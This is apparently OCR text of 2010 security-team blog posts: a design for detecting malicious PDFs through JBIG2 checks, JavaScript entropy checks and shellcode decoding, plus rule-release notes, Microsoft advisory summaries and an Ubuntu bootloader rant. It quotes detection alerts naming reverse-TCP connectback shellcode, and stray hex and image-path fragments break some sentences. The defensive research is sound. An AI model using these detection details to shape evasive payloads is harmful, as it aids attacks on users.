20 6F 62 6A 65 63 74 20 38 2C 20 64 65 63 6C 61 object8, decla
72 65 64 20 61 73 20 2F 4C 65 6E 67 74 68 20 32 red as /Length 2
39 2F 46 69 6C 74 65 72 20 5B 2F 46 6C61 74 65 9/Filter [/Flate
44 65 63 6F 64 65 2F 41 53 43 49 49 48 65 78 44 Decode/ASCIIHexD
65 63 6F 64 65 2F 4A 42 49 47 32 44 65 63 6F 64 ecode/JBIG2Decod
65 20 5D 20                                      e ]


Detection was extremely accurate and specific to the triggering condition of the vulnerability.  The PDF parser inflated the JBIG2 stream, handled any encoding and then looked at the specific conditions required to exploit the reader.  It fully detects attacks generated by the Metasploit framework.  In fact, it was good enough to uncover a bug in the Metasploit JBIG2 module which has now been fixed.  By allowing additional detection, above what is done by the Snort engine now, to occur outside of the packet stream, we are able to provide much more data back to the user.  Which got us to thinking about Javascript...

Anyone who has looked at Javascript data associated with exploits knows that there are often long, random names assigned to variables.  We decided to check for that by jamming all of the variable names together and then doing an entropy check.  If the variable was too random, we'd alert.  For example, one attack file, when taking all the JavaScript variables and putting them together, we get:


Which in turn, leads the NRT to fire:

[**] [300:2147483653:1] URL:/wrl/first.pdf Hostname:wrl Alert Info:The JavaScript variables in object 6, declared as /Length 5994/Filter [/FlateDecode/ASCIIHexDecode ] , show a high degree of entropy [**]We were in detection nirvana.  Anything we wanted to do, know matter how much processor it took, was available to us.

While sitting in Dubai on day one of HitB, Lurene came up with an idea of how to analyze unescaped data to findshellcode.  The process went like this:  Grab the PDF off the wire, inflate the JavaScript object, determine that it is JavaScript, normalize the unescape() calls and pass the data to a custom nugget written by Lurene.  This nugget then uses heuristics to discover the encoder type, decodes the shellcode and then returns data about the shellcode found.  The result:

[**] [300:3221225482:1] URL:/wrl/first.pdf Hostname:wrl AlertInfo:Reverse TCP connectback shellcode detected. Connecting to on port 4444  [**]

This data didn't come from seeing data to port 4444 on host, it came from interpreting shellcode that was unescaped in a compressed object in a PDF that we pulled offthe wire. we're excited.

But this system had to be open and it had to be extensible.  It had to be flexible and it had to be verbose in its logging.  So here is what we came up with:


This component is the heart of the system.  It handles data sources and detection nuggets. It manages a central database of all known good and known bad files and URLs.  Additionally, it keeps track of known good and bad sub-components (JS in PDF, for example), so that detection speed is improved and so that we can alert on data subsequently found to be bad. Finally it creates a complete log of detection by writing out not just the original file, but also the normalized versions of the segment of code that creates the alerts.


We want to be able to provide data into the system from any arbitrary location.  Capture a file off the wire with Snort, grab the file via a Milter, pass the file into the system from ClamAV or just hook on-open on a windows system and pass it to the system?   All of that should be handled and available through an API.


Forany given data handler one or more nuggets should be available.  The nuggets should be able to pass data to other nuggets.  For example, a PDF nugget that finds embedded JavaScript data should be able to pass just that block into a Javascript system.Snort registers with the Dispatcher as a Data Handler.  The Nugget Farm is populated by both a PDF and a JavaScript nugget.  Snort grabs the file and sends it to the PDF nugget.  The PDF parser finds the JavaScript block and sends it to the JavaScript nugget.  When the JavaScript nugget alerts, it sends the normalized data back to the Dispatcher.  When the PDF file alerts on the JBIG section it sends the data in the JBIG section as well as the entire file back to the Dispatcher.  The dispatcher writes each section and the associated alerts to disk in addition to the full file.  Finally it alerts into the Snort system.

There are more details, such as how we alert back in time (no sonic screwdriver required).  But we'll get to that.  For now we want to see what you would do if we handled you a pointerand a size.  So we've put up some rough (very rough) POC code at  Review the code in src/preprocessor/nrt_* to see what we're up to.  Modeling that code you should be able to write your own C code to do detection against files pulled by the system.

We've got a long way to go, with a ton of research in front of us.  There is no time-line for full release, but we're interested in seeing what you come up with.  As we create additional documentation and nail down more functionality, we'll continue updating the code.  Keep an eye on labs and the VRT blog for updates.  In the meantime, go poke around and let us know what you come up with.

Code & Dubai Presentation available at:

Thursday, April 15, 2010

Rule release for today, Thursday April 15th, 2010

Maintenance release, a few new rules and modifications to existing ones.

Check here for details.

Tuesday, April 13, 2010

April 2010 Vulnerability Report

Rule release for today, Tuesday April 13th, 2010

Microsoft Tuesday and Adobe Quarterly Patch. Details available here.

Microsoft Security Advisory (MS10-019):
The Microsoft CAB Subject Interface Package (SIP) implementation contains a programming error that may allow a remote attacker to bypass the authentication mechanism.

Microsoft Security Advisory (MS10-020):
The Microsoft implementation of the SMB protocol contains programming errors that may allow a remote attacker to execute code on an affected system.

Microsoft Security Advisory (MS10-023):Microsoft Publisher contains a programming error that may allow a remote attacker to execute code on an affected system.

Microsoft Security Advisory (MS10-024):
The Microsoft SMTP service is prone to a Denial of Service condition that may be triggered by a remote attacker.

Microsoft Security Advisory (MS10-025):
The Microsoft Windows Media Service suffers from a programming error that may allow a remote attacker to execute code on an affected system.

Microsoft Security Advisory (MS10-026):
Microsoft Windows Media Player contains a programming error that may allow a remote attacker to execute code on an affected system.

Microsoft Security Advisory (MS10-027):
Microsoft Windows Media Player contains a programming error that may allow a remote attacker to execute code on an affected system via an ActiveX control.

Microsoft Security Advisory (MS10-028):
Microsoft Visio suffers from programming errors that may allow a remote attacker to execute code on an affected system.

Microsoft Security Advisory (MS10-029):
The Microsoft implementation of IPv6 contains a programming error that may allow a remote attacker to spoof connections to an affected host.

Thursday, April 8, 2010

Rule release for today, Thursday April 8th, 2010

Mostly some small fixes, couple of reference changes and some new rules.

Check it out hereWednesday, April 7, 2010

WTF, Ubuntu?

I just finished installing Ubuntu 9.10 server edition on a shiny new Dell PowerEdge R805 box, as part of expanding our malware analysis labs. No big deal - half an hour of babysitting an installer, right?


It took me 5 hours, thanks to some really stupid decisions made by the Ubunutu team surrounding perhaps the most vital part of the installation process: the bootloader.

The actual install itself was nice and easy, just like I've come to expect out of the Ubuntu folks: sane defaults, good explanations when I had to make a relevant choice, and generally minimal requirements for interactivity. Anybody with even the most basic computer experience could fumble their way through it. After finishing, I took my CD out, rebooted...and suddenly found myself at a Busybox shell with a note about GRUB being unable to find the root filesystem.

I figured I'd done something really retarded, because in all of the years I've been installing *NIX operating systems, I've only had one other bootloader failure - an OpenBSD "Bad Magic" issue when I was swapping out hard drives that made immediate sense once I did two seconds worth of Googling, and that yielded a fun little picture in the process. So I sat down, thought for a second, and then realized I'd installed the 32-bit version of Ubunutu on a box with 8GB of RAM and a terabyte worth of hard drive - which sure seemed like a good reason for the OS to not be seeing the drive properly.

SoI headed back to my desk, burned a copy of the 64-bit version, reinstalled, and got...the exact same Busybox shell. Damnit!

A quick bit of Googling seemed to suggest that there were issues with GRUB recognizing really big disks. Since I'd just used the whole drive with Ubuntu's guided LVM setup, I figured that either my /boot partition was way off past the end of where GRUB could read, or that my / partition was just too big for it to handle. That's what I get for being lazy, I figured, and headed back into installer land, this time manually partitioning things so that /boot was at the very start of the drive, / was 50GB, and /var took up the rest of the space. Another 30-minute installation later, I rebooted, figuring I'd be all set.

Not so much.

Confused, I followed the suggestion at the Busybox shell and did a "cat /proc/modules". Sure enough, mptbase, mptsas, and scsi_transport_sas were all loaded - exactly the modules I needed to be able to see this SAS/MPT BIOS controller. /dev/sda* existed, and inspecting /boot/grub/grub.cfg (side note: Linux people, can we *please* agree on one frikkin' extension for config files?) showed that my root device was set properly. What the hell?

Getting desperate, I spent some substantial time scouring the web for answers. It seems that a number of people have had problems installing various versions of Ubuntu on the R805 boxes - but in classic Linux style, any time someone popped onto a forum or a mailing list asking how to fix boot issues with this hardware, the thread ended with some variant of "Hey, I figured it out! Thanks guys!", and NO GODDAMNED DESCRIPTION OF HOW THEY FIXED THE PROBLEM. Seriously, people, it takes like two minutes to explain the fix, and it will save countless people countless hours of pain if you just make sure your solution isarchived somewhere on the web.

After trying a whole host of possible fixes - setting the SAS controller to be visible to "BIOS only" instead of "BIOS & OS", telling the CD installer to boot off the first hard drive, etc. - I ran across this little nugget of wisdom, which suggested that I set my "rootdelay" value to 35 to give the SAS adapter time to initialize.

Aha! That made perfect sense, I figured. After all, this entire process had been further aggravated by the 30 seconds or so it takes the Dell SAS controller to initialize on each boot (seriously, people, how does it take a hard disk controller 30 f'ing seconds to initialize on amachine with 8 2.5GHz cores?); why wouldn't it want to waste another 30 seconds of my life re-initializing after the operating system loaded?

Optimistic about my prospects for success, I rebooted yet again, held down shift like the article suggested...and got no GRUB menu. I tried again with "e" (which I vaguely remembered using on some other bootloader in years gone by), and again with "Esc". The third time being a charm, I decided to brute-force the issue, popped the installer disc back in the drive, and chose "Rescue Broken System" from the menu.

This is where I started to realize how broken Ubuntu's installation has become.

At first, I thought I'd accidentally chosen "Install Ubuntu" from the menu, because the system proceeded along all of the same steps as a regular install. It even went to the trouble of finding my network hardware, having me choose an interface to do DHCP on, and set a hostname. Seriously, guys, I promise I don't need a fully functional network just to go touch my bootloader, repair a broken partition, or, you know, do anything else that would require me to use a CD to boot. You're just wasting my time.

Once I finally got my shell and headed on over to edit/boot/grub/grub.cfg, I realized the reason I could't get into the GRUB menu: the default timeout value had been set to "-1", i.e. "don't wait at all". Gee, guys, that makes so much sense - because, you know, no one will ever need to edit their GRUB config on the fly! That, and setting a delay of 1 second would just be too much hassle for people trying to boot up nice and fast on their shiny new servers with the 90-second delay to get into the bootloader.

With the delay fixed and GRUB reinstalled, I booted up again, and this time actually got to the GRUB menu. Much to my horror, the banner on the top read:

"GRUB version 1.97~beta4"Really, Ubuntu? Seriously? You're going to put a beta version of a bootloader on the production release of a server operating system? What cutting-edge boot-loading feature could you possibly need that you couldn't use a release version of GRUB?

Cursing the Ubuntu developers under my breath, I added the rootdelayvalue, hit Ctrl-x to boot, waited...and had a fully operational operatingsystem in under a minute! Hallelujah!

